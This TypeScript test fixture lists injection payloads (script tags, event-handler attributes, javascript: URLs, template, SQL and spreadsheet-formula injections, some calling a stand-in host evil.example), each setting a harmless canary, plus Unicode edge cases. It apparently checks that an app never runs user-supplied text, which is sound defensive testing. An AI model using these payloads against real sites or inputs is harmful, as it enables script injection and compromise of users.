/**
 * What a partner might write to make it run, one try a line: each would set `canary` if it were ever read as
 * HTML, as an address or as a template.
 */
export const TRIES: readonly string[] = [
  '<script>canary=1</script>',
  '<SCRIPT>canary=1</SCRIPT>',
  '<script>window["canary"]=1//',
  '<script src=data:text/javascript,canary=1></script>',
  '<script src=//evil.example/x.js></script>',
  '<script type=module>globalThis.canary=1</script>',
  '<scr<script>ipt>canary=1</scr</script>ipt>',
  '"><script>canary=1</script>',
  "'><script>canary=1</script>",
  '</p></blockquote></form><script>canary=1</script>',
  '</textarea><script>canary=1</script>',
  '</title><script>canary=1</script>',
  '</style><script>canary=1</script>',
  '--><script>canary=1</script>',
  ']]><script>canary=1</script>',
  '<img src=x onerror=canary=1>',
  '<img src=x onerror="canary=1">',
  '<img/src/onerror=canary=1>',
  '<IMG SRC=x OnErRoR=canary=1>',
  '<img src=x onerror=&#99;anary=1>',
  '<img src="x" onerror="eval(atob(\'Y2FuYXJ5PTE=\'))">',
  '"onerror=canary=1 src=x ',
  '<svg onload=canary=1>',
  '<svg><script>canary=1</script></svg>',
  '<svg><animate onbegin=canary=1 attributeName=x dur=1s>',
  '<svg><a xlink:href="javascript:canary=1"><text>press me</text></a></svg>',
  '<svg><use href="data:image/svg+xml,<svg id=x onload=canary=1>#x"></use></svg>',
  '<math><mi//xlink:href="data:x,<script>canary=1</script>">',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=canary=1&gt;">',
  '<iframe srcdoc="<script>parent.canary=1</script>"></iframe>',
  '<iframe src="javascript:parent.canary=1"></iframe>',
  '<object data="javascript:canary=1"></object>',
  '<embed src="javascript:canary=1">',
  '<a href="javascript:canary=1">press me</a>',
  '<a href="java&#9;script:canary=1">press me</a>',
  '<a href="  javascript:canary=1" autofocus onfocus=canary=1>press me</a>',
  'javascript:canary=1',
  'data:text/html,<script>canary=1</script>',
  'vbscript:canary=1',
  '<body onload=canary=1>',
  '<body onpageshow=canary=1>',
  '<input autofocus onfocus=canary=1>',
  '<select autofocus onfocus=canary=1><option>one</select>',
  '<textarea autofocus onfocus=canary=1>',
  '<details open ontoggle=canary=1><summary>more</summary></details>',
  '<video><source onerror=canary=1></video>',
  '<audio src=x onerror=canary=1>',
  '<marquee onstart=canary=1>see</marquee>',
  '<div onpointerrawupdate=canary=1 style="position:fixed;inset:0">over everything</div>',
  '<style>@keyframes x{}</style><p style="animation-name:x" onanimationstart=canary=1>',
  '<style>*{display:none}</style>',
  '<link rel=stylesheet href=//evil.example/x.css>',
  '<meta http-equiv=refresh content="0;url=javascript:canary=1">',
  '<base href=//evil.example/>',
  '<form action="javascript:canary=1"><button>go on</button></form>',
  '<button formaction="javascript:canary=1" form=x>go on</button>',
  '<template><script>canary=1</script></template>',
  '<x-one onclick=canary=1 tabindex=0 id=x>',
  '<noscript><p title="</noscript><img src=x onerror=canary=1>">',
  '<!--<img src="--><img src=x onerror=canary=1//">',
  '<![CDATA[<img src=x onerror=canary=1>]]>',
  '<?xml version="1.0"?><script>canary=1</script>',
  '&lt;script&gt;canary=1&lt;/script&gt;',
  '&#60;script&#62;canary=1&#60;/script&#62;',
  '\\u003cscript\\u003ecanary=1\\u003c/script\\u003e',
  '%3Cscript%3Ecanary=1%3C/script%3E',
  '{{constructor.constructor("canary=1")()}}',
  '${canary=1}',
  '#{canary=1}',
  '<%= canary=1 %>',
  '{birth_year} {locale} {compliment}',
  '{#if}{canary}{/if}',
  '__proto__[canary]=1',
  "'; drop table texts; --",
  '=cmd|"/c canary"!A1',
  '*bold* [press me](javascript:canary=1) `code`',
];

/** What the sender puts in, and what the reader may get of it: what nobody sees does not arrive. */
export const ODDITIES: readonly (readonly [sent: string, shown: string])[] = [
  ['one\u0000two', 'onetwo'],
  ['bell \u0007 and escape \u001b[31m', 'bell  and escape [31m'],
  ['turned \u202egnihtemos\u202c around', 'turned gnihtemos around'],
  ['kept apart \u2067שלום\u2069 here', 'kept apart שלום here'],
  ['a mark \u200f of direction', 'a mark  of direction'],
  ['مرحبا بك يا صديقي', 'مرحبا بك يا صديقي'],
  ['👩‍❤️‍👨 together 🏳️‍🌈 and 🧑🏽‍🤝‍🧑🏻', '👩‍❤️‍👨 together 🏳️‍🌈 and 🧑🏽‍🤝‍🧑🏻'],
  ['Z͑ͫ̓a̷l̸g̶o̵ and e\u0301 and é', 'Z͑ͫ̓a̷l̸g̶o̵ and e\u0301 and é'],
  ['half a pair \ud83d of nothing', 'half a pair \ufffd of nothing'],
  ['x'.repeat(600), 'x'.repeat(600)],
];

/** Many lines to a text, as one text may have so many characters. */
export function textsOf(lines: readonly string[], most = 1_900): readonly string[] {
  const texts: string[] = [];
  for (const line of lines) {
    const last = texts.at(-1);
    if (last === undefined || last.length + line.length + 1 > most) texts.push(line);
    else texts[texts.length - 1] = `${last}\n${line}`;
  }
  return texts;
}
